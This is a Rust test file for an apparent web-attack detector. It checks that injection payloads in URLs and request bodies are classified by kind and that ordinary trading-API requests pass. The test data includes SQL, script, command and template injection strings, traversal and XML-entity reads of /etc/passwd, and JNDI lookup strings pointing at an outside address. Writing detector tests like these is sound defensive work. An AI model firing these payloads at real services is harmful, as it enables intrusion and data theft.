//! Attacks, and what is none. Those of public lists are in the tests of the workspace.

use super::*;

fn of(value: &str) -> Option<Payload> {
    of_target(&format!("/search?a=1&q={}", encoded(value)))
}

/// Percent-encoded, as clients do.
fn encoded(value: &str) -> String {
    let safe = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~/".contains(&byte);
    let encode = |byte: u8| match safe(byte) {
        true => char::from(byte).to_string(),
        false => format!("%{byte:02X}"),
    };
    value.bytes().map(encode).collect()
}

#[test]
fn each_kind_is_told() {
    for (value, kind) in [
        ("1' UNION/**/SELECT password FROM users--", Payload::Sql),
        ("x' or 'a'='a", Payload::Sql),
        ("%2527%20or%201=1%20--", Payload::Sql),
        ("<ScRiPt>alert(1)</script>", Payload::Script),
        ("\" onmouseover=go(1) x=\"", Payload::Script),
        ("x;/bin/ls -l", Payload::Command),
        ("a|id", Payload::Command),
        ("`whoami`", Payload::Command),
        ("..%252f..%252fetc%252fpasswd", Payload::Path),
        ("..\\..\\boot.ini", Payload::Path),
        ("{{7*7}}", Payload::Template),
        ("${T(java.lang.Runtime).getRuntime()}", Payload::Template),
        ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", Payload::XmlEntity),
        ("admin*)(uid=*", Payload::Ldap),
        ("${jndi:ldap://203.0.113.9/a}", Payload::Lookup),
        ("${${lower:j}ndi:rmi://x}", Payload::Lookup),
    ] {
        assert_eq!(of(value), Some(kind), "{value}");
    }
    assert_eq!(of_target("/users?name[$ne]=x"), Some(Payload::Nosql));
    assert_eq!(of_target("/static/../../etc/passwd"), Some(Payload::Path));
    assert_eq!(of_target("/static/%2e%2e/%2e%2e/secret"), Some(Payload::Path));
    let body = |text: &str| of_body(text.as_bytes());
    assert_eq!(body(r#"{"user":{"$ne":null}}"#), Some(Payload::Nosql));
    assert_eq!(body(r#"{"q":"\u003cscript\u003ealert(1)"}"#), Some(Payload::Script));
    assert_eq!(body(r#"{"query":"{__schema {types {name}}}"}"#), Some(Payload::Introspection));
    assert_eq!(body("a=1&b=%3Cscript%3E"), Some(Payload::Script));
    assert_eq!(body("q=1'+union+select+1"), Some(Payload::Sql));
}

#[test]
fn what_apis_are_used_for_is_no_attack() {
    for target in [
        "/",
        "*",
        "/api/v3/order?symbol=BTCUSDT&side=BUY&type=LIMIT&timeInForce=GTC&quantity=0.01&price=9000.5",
        "/api/v5/account/bills?begin=2026-11-24T09%3A08%3A57.715Z&ccy=USDT,BTC",
        "/0/private/AddOrder?txid=OQCLML-BW3P3-BUCMWZ;OB5VMB-B4U2U-DK2WRW",
        "/v1/search?q=select+a+wallet+from+the+list",
        "/v1/search?q=Dow+Jones+and+Nasdaq",
        "/orders?symbols=%5B%22BTCUSDT%22,%22ETHUSDT%22%5D",
        "/orders?signature=a%2Bb%2F%2Fc%3D%3D",
        "/batch?orders=%5B%7B%22symbol%22:%22A%22,%22price%22:%221%22%7D%5D",
        "/files/a..b/c.tar.gz?x=1...5",
        "/odata?$filter=price%20gt%2020&$select=name",
    ] {
        assert_eq!(of_target(target), None, "{target}");
    }
    for body in [
        r#"{"symbol":"BTC-USDT","side":"buy","size":"0.5","note":"take profit, then wait"}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"private/buy","params":{"amount":40}}"#,
        r#"[{"a":{"b":[1,2,{"c":"d e f"}]}}]"#,
        r#"{"query":"mutation Place($a:Int!){ place(amount:$a) { id } }"}"#,
        r#"{"name":"O'Brien & Sons; trading as \"Sons\"","label":"50% off (today)"}"#,
        "nonce=1700000000000&pair=XBTUSD&type=buy&ordertype=limit&volume=1.25",
        "<?xml version=\"1.0\"?><order><form>a</form><input>b</input></order>",
        "",
    ] {
        assert_eq!(of_body(body.as_bytes()), None, "{body}");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in "[ -~\\x00]{0,60}|[%0-9a-f'*/\\\\u.{}|;&=+ <>$]{0,80}") {
        let _ = of_target(&text);
        let _ = of_body(text.as_bytes());
    }
}
